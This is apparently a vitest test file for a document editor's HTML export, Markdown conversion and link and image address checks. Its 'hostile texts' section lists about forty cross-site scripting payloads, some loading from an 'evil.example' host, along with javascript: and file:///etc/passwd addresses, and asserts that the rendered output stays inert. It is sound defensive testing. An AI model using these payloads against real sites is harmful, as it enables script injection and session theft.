import type { Node } from '@tiptap/pm/model'
import { describe, expect, it } from 'vitest'
import { isImageAddress, isLinkAddress } from './addresses.ts'
import { htmlFromDocument } from './html-page.ts'
import { documentFromMarkdown } from './markdown-read.ts'
import { markdownFromDocument } from './markdown-write.ts'
import { nodeFromJson } from './prose.ts'
import { isRefusal } from './refusal.ts'
import { documentSchema } from './schema.ts'

const text = (words: string, ...marks: unknown[]): unknown => ({ type: 'text', text: words, marks })
const block = (type: string, ...content: unknown[]): unknown => ({ type, content })

function docOf(...blocks: unknown[]): Node {
  const node = nodeFromJson({ type: 'doc', content: blocks })
  if (isRefusal(node)) throw new Error(node.because)
  return node
}

const bodyOf = (html: string): string => html.slice(html.indexOf('<body>'))

describe('a page', () => {
  it('shows every kind of block', () => {
    const doc = docOf(
      { type: 'heading', attrs: { level: 2 }, content: [text('Plan & law')] },
      { type: 'contents' },
      block(
        'paragraph',
        text('a', { type: 'bold' }),
        { type: 'hardBreak' },
        { type: 'mention', attrs: { id: 'u', label: 'Ada' } },
      ),
      block('taskList', { type: 'taskItem', attrs: { checked: true }, content: [block('paragraph', text('done'))] }),
      block(
        'table',
        block('tableRow', { type: 'tableCell', attrs: { colspan: 2 }, content: [block('paragraph', text('c'))] }),
      ),
      { type: 'callout', attrs: { kind: 'decision' }, content: [block('paragraph', text('We go.'))] },
      block('columns', { type: 'column', attrs: { title: 'Before' }, content: [block('paragraph', text('old'))] }),
      { type: 'billBlock', attrs: { bill: 'hr5496' } },
      block('codeBlock', text('if (a < b) {}')),
      { type: 'image', attrs: { src: '/api/pictures/1', alt: 'The peg' } },
    )
    const html = htmlFromDocument(doc, {
      title: 'T',
      pictures: new Map([['/api/pictures/1', 'data:image/png;base64,AAAA']]),
    })
    for (const part of [
      '<h2 id="h1">Plan &amp; law</h2>',
      '<a href="#h1">Plan &amp; law</a>',
      '<p><strong>a</strong><br><span class="mention">@Ada</span></p>',
      '<td colspan="2"><p>c</p>',
      '<p class="kind">Decision</p>',
      '<p class="column-title">Before</p>',
      'bill · hr5496',
      '<code>if (a &lt; b) {}</code>',
      '<img src="data:image/png;base64,AAAA" alt="The peg">',
      'size:A4',
      'counter(page)',
    ]) {
      expect(html).toContain(part)
    }
    expect(htmlFromDocument(doc, { title: 'T', theme: { paperSize: 'Letter' } })).toContain('size:letter')
  })

  it('shows suggestions as ins and del and comments as numbered notes', () => {
    const doc = docOf(
      block(
        'paragraph',
        text('old', { type: 'deletion', attrs: { id: 'ben:1:1' } }),
        text('new', { type: 'insertion', attrs: { id: 'ben:1:1' } }),
        text(' words', { type: 'comment', attrs: { thread: 't2' } }),
      ),
      {
        type: 'paragraph',
        attrs: { suggestion: JSON.stringify({ kind: 'deletion', id: 'ben:2:2' }) },
        content: [text('whole')],
      },
    )
    const threads = [
      { thread: 't9', quote: 'lost words', comments: [{ author: 'Eve', text: 'gone' }] },
      { thread: 't2', comments: [{ author: 'Ada', at: '10:00', text: 'Why?\nSay.' }] },
    ]
    const html = htmlFromDocument(doc, { title: 'T', threads, names: new Map([['ben', 'Ben <b>']]) })
    expect(html).toContain(
      '<del title="Suggested removal by Ben &lt;b&gt;">old</del><ins title="Suggested addition by Ben &lt;b&gt;">new</ins>',
    )
    expect(html).toContain(
      '<mark> words</mark><sup class="note" id="n1"><a href="#note-1" aria-label="Comment 1">1</a></sup>',
    )
    expect(html).toContain('<del class="block" title="Suggested removal by Ben &lt;b&gt;"><p>whole</p>')
    expect(html).toContain('<strong>Ada</strong> <time>10:00</time> Why?<br>Say.')
    expect(html.indexOf('Ada')).toBeLessThan(html.indexOf('lost words'))
    expect(html).toContain('The words are no longer in the document.')
  })
})

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>go</button></form>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template in plain text is the point of this payload
  '${alert(1)}',
  '\u0000<script\u0000>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/p.png "t" onerror="alert(1)")',
  '<https://evil.example/"onclick="alert(1)>',
  '</p></main><script>alert(1)</script>',
]

/** Element names and attributes of a page, read by a small scanner that follows quotes as a browser does. */
function elementsOf(html: string): { name: string; attributes: string[] }[] {
  const found: { name: string; attributes: string[] }[] = []
  for (const [, name, rest] of html.matchAll(/<([a-zA-Z!/][^\s>/]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/g)) {
    found.push({
      name: name!.toLowerCase(),
      attributes: [...rest!.matchAll(/([^\s=/"'>]+)(?:="[^"]*")?/g)].map(match => match[1]!.toLowerCase()),
    })
  }
  return found
}

const allowedElements = new Set(
  'body main section h1 h2 h3 h4 p ol ul li div span strong em q br ins del mark sup a figure figcaption aside nav time code pre img table tr td th blockquote hr'.split(
    ' ',
  ),
)
const allowedAttributes = new Set('class id title href rel aria-label alt src start colspan rowspan style'.split(' '))

function expectInert(html: string): void {
  const body = bodyOf(html)
  for (const { name, attributes } of elementsOf(body)) {
    const plain = name.replace(/^\//, '')
    if (plain === 'html') continue
    expect(allowedElements).toContain(plain)
    for (const attribute of attributes) expect(allowedAttributes).toContain(attribute)
  }
  for (const [, address] of body.matchAll(/(?:href|src)="([^"]*)"/g))
    expect(address).toMatch(/^(?:#|https?:|mailto:|data:image\/)/)
  expect(html.match(/<script/gi)).toBeNull()
}

describe('hostile texts', () => {
  it('has a corpus of at least thirty', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(30)
  })

  it.each(payloads)('stay words everywhere on a page: %s', payload => {
    const label = payload.slice(0, 300)
    const doc = docOf(
      { type: 'heading', attrs: { level: 1 }, content: [text(payload)] },
      { type: 'contents' },
      block('paragraph', text(payload, { type: 'comment', attrs: { thread: 't1' } }), {
        type: 'mention',
        attrs: { id: 'x', label },
      }),
      block('codeBlock', text(payload)),
      block('columns', {
        type: 'column',
        attrs: { title: label },
        content: [block('paragraph', text(payload, { type: 'code' }))],
      }),
      { type: 'runBlock', attrs: { title: label } },
      { type: 'image', attrs: { src: '/api/pictures/1', alt: label } },
      block('paragraph', text('s', { type: 'insertion', attrs: { id: 'eve:1:1' } })),
    )
    const html = htmlFromDocument(doc, {
      title: payload,
      language: payload,
      threads: [{ thread: 't1', quote: payload, comments: [{ author: payload, at: payload, text: payload }] }],
      names: new Map([['eve', payload]]),
      pictures: new Map([['/api/pictures/1', `data:image/png;base64,${payload}`]]),
      describeLiveBlock: () => payload,
      theme: { ink: payload, accent: `#000000;}${payload}` },
    })
    expectInert(html)
    expect(html.slice(html.indexOf('<style>') + 7, html.indexOf('</style>'))).not.toContain(payload)
  })

  it.each(payloads)('stay words through Markdown, both ways: %s', payload => {
    const read = documentFromMarkdown(payload)
    if (isRefusal(read)) throw new Error(read.because)
    expectInert(htmlFromDocument(read, { title: 'T' }))
    const words = payload.replaceAll('\u0000', '').replace(/\s+/g, ' ').trim()
    const back = documentFromMarkdown(markdownFromDocument(docOf(block('paragraph', text(words)))))
    if (isRefusal(back)) throw new Error(back.because)
    expect(back.textContent).toBe(words)
    expect(back.firstChild?.firstChild?.marks).toEqual([])
    // No other reader of Markdown sees HTML in it either: every angle bracket that opens a tag is escaped.
    expect(markdownFromDocument(docOf(block('paragraph', text(words))))).not.toMatch(/(?<!\\)<[a-zA-Z/!]/)
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://example.org/x',
    'https:\\\\evil.example',
    'https://',
    '//evil.example',
    '/relative',
    'http:javascript:alert(1)',
    'mailto:',
    '',
  ])('no link leads to %j', address => {
    expect(isLinkAddress(address)).toBe(false)
    const json = { type: 'doc', content: [block('paragraph', text('x', { type: 'link', attrs: { href: address } }))] }
    expect(nodeFromJson(json)).toMatchObject({ refused: 'schema' })
  })

  it.each([
    'https://evil.example/p.png',
    'data:image/svg+xml,<svg onload=alert(1)>',
    '/api/../secret',
    '//evil/api/',
    '/apix',
    'javascript:1',
    '/api/a"b',
  ])('no picture comes from %j', address => {
    expect(isImageAddress(address)).toBe(false)
  })

  it('no link of a page leads elsewhere, even from a document that nobody checked', () => {
    const schema = documentSchema()
    const bad = schema.text('x', [schema.mark('link', { href: 'javascript:alert(1)' })])
    const picture = schema.node('image', { src: 'javascript:alert(1)' })
    const html = htmlFromDocument(schema.node('doc', null, [schema.node('paragraph', null, [bad]), picture]), {
      title: 'T',
    })
    expect(html).not.toContain('javascript')
  })

  it('lets honest addresses through', () => {
    expect(['https://example.org/a?b=1#c', 'http://x', 'mailto:a@example.org'].every(isLinkAddress)).toBe(true)
    expect(isImageAddress('/api/pictures/ab-1.png?w=2')).toBe(true)
  })
})
